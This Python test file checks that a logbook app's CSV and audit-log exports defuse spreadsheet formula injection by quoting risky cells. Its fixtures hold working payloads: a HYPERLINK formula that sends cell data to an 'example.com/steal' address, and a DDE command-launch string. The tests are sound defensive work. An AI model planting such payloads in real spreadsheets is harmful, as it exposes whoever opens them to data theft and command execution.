"""Spreadsheet formulas in the CSV files the app writes: typed text that starts like a
formula gets a ' in front (OWASP "CSV injection"), unless the user keeps it as typed."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from logger_app import cli
from logger_app.export import export_all, export_client
from logger_app.export.csv_export import COLUMNS, TEXT_COLUMNS, read_csv_rows
from logger_app.export.formulas import neutralise, restore_cell
from logger_app.import_csv import ImportOptions, auto_map, plan_import, read_csv
from logger_app.logbook import Logbook
from logger_app.records import AreaTreatment, ClientDetails, Numbing, ProductUse, SessionDetails
from logger_app.vocabulary import Area, Device

NOW = datetime(2025, 6, 2, 12, 0, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("http://example.com/steal?d="&A1, "Click for results")'
TYPED = {
    "client_name": "@Ann Smith",
    "phone": "+64 21 555 0101",
    "email": "-ann@example.com",
    "allergies": "=Latex",
    "address": "@1 Queen Street",
    "general_notes": "-Prefers mornings",
    "practitioner": "+Dr Evil",
    "cartridge": "-12 pin",
    "area_note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "numbing_agent": "-Lidocaine",
    "numbing_strength": "+5 %",
    "glide_product": "=1+1",
    "glide_lot": "'=already quoted",
    "notes": HYPERLINK,
    "products": "=1+1, lot '=already quoted",
}


@pytest.fixture
def book(data_dir: Path) -> tuple[Path, int]:
    with Logbook.open(data_dir, actor="=cmd|' /C calc'!A0", create=True) as logbook:
        client = logbook.add_client(
            ClientDetails(
                "@Ann",
                "Smith",
                date_of_birth=date(1984, 7, 9),
                phone=TYPED["phone"],
                email=TYPED["email"],
                allergies=TYPED["allergies"],
                address=TYPED["address"],
                general_notes=TYPED["general_notes"],
            ),
            today=NOW.date(),
        )
        logbook.record_session(
            SessionDetails(
                client_id=client.id,
                started_at=datetime(2025, 3, 1, 12, 0, tzinfo=UTC),
                practitioner_name=TYPED["practitioner"],
                device=Device.PEN,
                areas=(AreaTreatment(Area.FOREHEAD, 0.5, 2, TYPED["area_note"]),),
                cartridge=TYPED["cartridge"],
                numbing=Numbing(TYPED["numbing_agent"], TYPED["numbing_strength"], 30),
                products=(ProductUse(TYPED["glide_product"], TYPED["glide_lot"], None),),
                notes=TYPED["notes"],
            ),
            now=NOW,
            enforce_safety=False,
        )
    return data_dir, client.id


def raw_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as source:
        return list(csv.DictReader(source))


def test_the_rule() -> None:
    for cell in ("=1", "+1", "-1", "@a", "\t=1", "\r=1", "'x"):
        assert neutralise(cell) == "'" + cell
        assert restore_cell(neutralise(cell)) == cell
    for cell in ("", "Ann", "1.5", " =1", "x=1", "a'b"):
        assert neutralise(cell) == cell == restore_cell(cell)


def test_text_cells_that_look_like_formulas_get_a_quote(book, tmp_path: Path) -> None:
    data_dir, client_id = book
    with Logbook.open(data_dir) as logbook:
        export_client(logbook, client_id, "csv", tmp_path / "safe.csv")
        export_client(logbook, client_id, "csv", tmp_path / "kept.csv", keep_formulas=True)
        export_all(logbook, "csv", tmp_path / "all.csv")
    [safe] = raw_rows(tmp_path / "safe.csv")
    [kept] = raw_rows(tmp_path / "kept.csv")
    [everyone] = raw_rows(tmp_path / "all.csv")
    assert {column: safe[column] for column in TYPED} == {
        column: "'" + typed for column, typed in TYPED.items()
    }
    assert everyone == safe
    assert {column: kept[column] for column in TYPED} == TYPED
    # Machine values (ids, dates, numbers, the app's vocabulary) are never touched.
    # (treatment_detail: on rows of other treatments, below.)
    assert set(TYPED) | {"treatment_detail"} == TEXT_COLUMNS
    assert {c: safe[c] for c in COLUMNS if c not in TEXT_COLUMNS} == {
        c: kept[c] for c in COLUMNS if c not in TEXT_COLUMNS
    }
    assert (safe["depth_mm"], safe["session_date"]) == ("0.5", "2025-03-01")
    # Read back: exactly what was typed, no quote more.
    assert {column: read_csv_rows(tmp_path / "safe.csv")[0][column] for column in TYPED} == TYPED


def test_the_command_line_neutralises_unless_told_to_keep(book, tmp_path: Path) -> None:
    data_dir, client_id = book
    base = ["export", "--data-dir", str(data_dir), "--client", str(client_id), "--format", "csv"]
    assert cli.main([*base, "-o", str(tmp_path / "safe.csv")]) == 0
    assert cli.main([*base, "-o", str(tmp_path / "kept.csv"), "--keep-formulas"]) == 0
    assert raw_rows(tmp_path / "safe.csv")[0]["notes"] == "'" + HYPERLINK
    assert raw_rows(tmp_path / "kept.csv")[0]["notes"] == HYPERLINK


def test_the_audit_log_csv_neutralises_who_and_what(book, tmp_path: Path) -> None:
    data_dir, _ = book
    with Logbook.open(data_dir) as logbook:
        entries = [e for e in logbook.audit_entries() if e.actor.startswith("=")]
        path = logbook.export_audit_csv(entries, tmp_path / "audit.csv")
        from logger_app.audit_csv import write_audit_csv

        kept = write_audit_csv(entries, tmp_path / "kept.csv", keep_formulas=True)
    assert entries
    rows = raw_rows(path)
    assert {row["actor"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert [row["id"] for row in rows] == [str(e.id) for e in entries]
    assert {row["actor"] for row in raw_rows(kept)} == {"=cmd|' /C calc'!A0"}


def test_an_export_imported_again_does_not_grow_quotes(book, tmp_path: Path) -> None:
    data_dir, client_id = book
    with Logbook.open(data_dir) as logbook:
        path = export_client(logbook, client_id, "csv", tmp_path / "history.csv")
    clients = read_csv(path)
    mapping = auto_map(clients.headers, clients.headers)
    options = ImportOptions(now=NOW, timezone=UTC)
    plan = plan_import(clients, clients, mapping, options)
    [client] = list(plan.planned_clients())
    assert (client.details.first_name, client.details.last_name) == ("@Ann", "Smith")
    [session] = list(plan.planned_sessions())
    assert session.details.practitioner_name == TYPED["practitioner"]
    assert session.details.notes.endswith("\n" + HYPERLINK)
